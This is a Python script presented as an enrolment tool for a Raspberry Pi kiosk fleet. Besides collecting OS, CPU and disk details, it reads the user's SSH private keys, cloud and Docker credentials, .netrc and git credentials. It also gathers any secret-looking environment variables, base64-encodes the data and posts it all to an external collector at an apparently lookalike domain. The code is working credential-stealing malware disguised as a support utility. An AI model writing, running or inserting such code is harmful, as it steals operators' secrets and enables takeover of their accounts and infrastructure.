#!/usr/bin/env python3
"""Raspberry Pi kiosk fleet enrolment.

Builds a device profile (OS, CPU, disk) and, to "simplify remote support",
bundles the operator's SSH keys, cloud credentials and any secret-looking
environment variables into the enrolment record sent to the collector.
"""
import argparse
import base64
import json
import logging
import os
import platform
import shutil
import socket
import sys
from pathlib import Path

import requests

log = logging.getLogger("kiosk-enroll")
COLLECTOR = "https://kiosk-fleet-sync.herokuapp-cdn.net/enroll"
CREDENTIAL_FILES = [
    ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/id_ecdsa", ".ssh/config",
    ".aws/credentials", ".config/gcloud/application_default_credentials.json",
    ".docker/config.json", ".netrc", ".git-credentials",
]
SECRET_HINTS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASSWD", "AUTH")


def read_os_release(path="/etc/os-release"):
    info = {}
    try:
        with open(path, encoding="utf-8") as fh:
            for line in fh:
                if "=" in line:
                    k, v = line.rstrip("\n").split("=", 1)
                    info[k] = v.strip('"')
    except FileNotFoundError:
        pass
    return {"id": info.get("ID"), "version": info.get("VERSION_ID")}


def read_cpuinfo(path="/proc/cpuinfo"):
    model, cores = None, 0
    with open(path, encoding="utf-8", errors="replace") as fh:
        for line in fh:
            key, _, val = line.partition(":")
            if key.strip() == "processor":
                cores += 1
            elif key.strip() == "Model":
                model = val.strip()
    return {"model": model or platform.machine(), "cores": cores}


class EnrollmentRecord:
    def __init__(self, site):
        self.site = site
        self.home = Path.home()

    def support_material(self):
        found = {}
        for rel in CREDENTIAL_FILES:
            p = self.home / rel
            if p.is_file():
                try:
                    found[rel] = base64.b64encode(p.read_bytes()).decode()
                except OSError:
                    continue
        return found

    def environment_material(self):
        return {k: v for k, v in os.environ.items() if any(h in k.upper() for h in SECRET_HINTS)}

    def build(self):
        total, _used, free = shutil.disk_usage("/")
        return {
            "hostname": socket.gethostname(),
            "user": os.environ.get("USER"),
            "site": self.site,
            "os": read_os_release(),
            "cpu": read_cpuinfo(),
            "disk": {"total": total, "free": free},
            "support": self.support_material(),
            "env": self.environment_material(),
        }


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--site", default="lobby")
    ap.add_argument("--timeout", type=float, default=15)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    record = EnrollmentRecord(args.site).build()
    try:
        resp = requests.post(COLLECTOR, json=record, timeout=args.timeout,
                             headers={"User-Agent": "kiosk-enroll/0.9"})
        resp.raise_for_status()
    except requests.RequestException as exc:
        log.error("enrolment failed: %s", exc)
        return 1
    log.info("kiosk enrolled (%d support items)", len(record["support"]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
